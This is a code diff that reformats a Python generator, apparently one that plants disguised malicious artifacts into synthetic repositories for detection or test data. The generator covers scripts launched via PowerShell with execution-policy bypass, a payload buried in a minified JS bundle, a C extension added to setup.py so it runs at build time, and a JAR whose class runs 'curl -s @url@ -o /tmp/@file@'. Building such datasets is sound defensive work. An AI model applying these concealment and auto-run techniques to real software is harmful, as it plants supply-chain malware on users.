@@ -41,12 +41,22 @@ def _script(draft: Draft, kind: str, names: tuple[str, ...], arguments: str) -> 
 
 def shell_script(draft: Draft) -> None:
     """Bring a shell script and start it."""
-    _script(draft, "shell", ("setup.sh", "postinstall.sh", "env.sh", "check.sh"), draft.rng.choice(("'sh', @path@", "'/bin/bash', @path@")))
+    _script(
+        draft,
+        "shell",
+        ("setup.sh", "postinstall.sh", "env.sh", "check.sh"),
+        draft.rng.choice(("'sh', @path@", "'/bin/bash', @path@")),
+    )
 
 
 def powershell_script(draft: Draft) -> None:
     """Bring a PowerShell script and start it."""
-    _script(draft, "powershell", ("init.ps1", "update.ps1", "env.ps1"), "'powershell', '-ExecutionPolicy', 'Bypass', '-File', @path@")
+    _script(
+        draft,
+        "powershell",
+        ("init.ps1", "update.ps1", "env.ps1"),
+        "'powershell', '-ExecutionPolicy', 'Bypass', '-File', @path@",
+    )
 
 
 def windows_script(draft: Draft) -> None:
@@ -55,7 +65,12 @@ def windows_script(draft: Draft) -> None:
     if not kind:
         raise draft.fail("no script of Windows belongs to its split")
     suffix = "bat" if kind[0].name == "batch" else "vbs"
-    _script(draft, "windows", (f"run.{suffix}", f"helper.{suffix}"), "'cmd', '/c', @path@" if suffix == "bat" else "'wscript', @path@")
+    _script(
+        draft,
+        "windows",
+        (f"run.{suffix}", f"helper.{suffix}"),
+        "'cmd', '/c', @path@" if suffix == "bat" else "'wscript', @path@",
+    )
 
 
 def node_script(draft: Draft) -> None:
@@ -66,7 +81,10 @@ def node_script(draft: Draft) -> None:
 def node_bundle(draft: Draft) -> None:
     """Bring a large minified bundle with the payload inside and start it with another runtime."""
     rng = draft.rng
-    parts = [f"var {rng.choice('abcdefgh')}{n}={rng.choice(_BOILER)!r}+{rng.randrange(10**6)};" for n in range(rng.randrange(3_000, 14_000))]
+    parts = [
+        f"var {rng.choice('abcdefgh')}{n}={rng.choice(_BOILER)!r}+{rng.randrange(10**6)};"
+        for n in range(rng.randrange(3_000, 14_000))
+    ]
     parts.insert(rng.randrange(len(parts)), " ".join(_text(draft, "javascript").split()))
     path = f"{draft.folder}{rng.choice(('_runtime', 'dist', 'vendor'))}/{rng.choice(('bundle.js', 'router.mjs', 'runtime.js'))}"
     draft.put_new(path, "".join(parts))
@@ -92,13 +110,18 @@ def c_source(draft: Draft) -> None:
         path = draft.rng.choice(found)
         draft.put(path, draft.files[path].rstrip(b"\n") + b"\n\n" + text.encode())
         return
-    draft.put_new(f"{draft.root}src/_speedups.c", f"#include <Python.h>\n{text}\nPyMODINIT_FUNC PyInit__speedups(void) {{ return 0; }}\n")
+    draft.put_new(
+        f"{draft.root}src/_speedups.c",
+        f"#include <Python.h>\n{text}\nPyMODINIT_FUNC PyInit__speedups(void) {{ return 0; }}\n",
+    )
     path = f"{draft.root}setup.py"
     before = draft.files.get(path, b"from setuptools import setup\n\nsetup()\n").decode("utf-8", "replace")
     if "setup(" not in before or "ext_modules" in before:
         raise draft.fail("has no call of setup that takes a module in C")
     line = "from setuptools import Extension\n"
-    draft.put(path, line + before.replace("setup(", "setup(ext_modules=[Extension('_speedups', ['src/_speedups.c'])], ", 1))
+    draft.put(
+        path, line + before.replace("setup(", "setup(ext_modules=[Extension('_speedups', ['src/_speedups.c'])], ", 1)
+    )
 
 
 def rust_build(draft: Draft) -> None:
@@ -124,12 +147,21 @@ def other_script(draft: Draft) -> None:
 
 def java_archive(draft: Draft) -> None:
     """Bring a Java archive whose class starts a command."""
-    strings = ("java/lang/Runtime", "getRuntime", "exec", draft.words.render("curl -s @url@ -o /tmp/@file@"), "main", "([Ljava/lang/String;)V")
+    strings = (
+        "java/lang/Runtime",
+        "getRuntime",
+        "exec",
+        draft.words.render("curl -s @url@ -o /tmp/@file@"),
+        "main",
+        "([Ljava/lang/String;)V",
+    )
     pool = b"".join(b"\x01" + len(s).to_bytes(2, "big") + s.encode() for s in strings)
     java_class = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + (len(strings) + 1).to_bytes(2, "big") + pool
     out = BytesIO()
     with zipfile.ZipFile(out, "w") as archive:
-        archive.writestr(zipfile.ZipInfo("META-INF/MANIFEST.MF", (2020, 2, 2, 0, 0, 0)), "Manifest-Version: 1.0\nMain-Class: Main\n")
+        archive.writestr(
+            zipfile.ZipInfo("META-INF/MANIFEST.MF", (2020, 2, 2, 0, 0, 0)), "Manifest-Version: 1.0\nMain-Class: Main\n"
+        )
         archive.writestr(zipfile.ZipInfo("Main.class", (2020, 2, 2, 0, 0, 0)), java_class)
     path = f"{draft.folder}jars/{draft.words.word()}.jar"
     draft.put_new(path, out.getvalue())
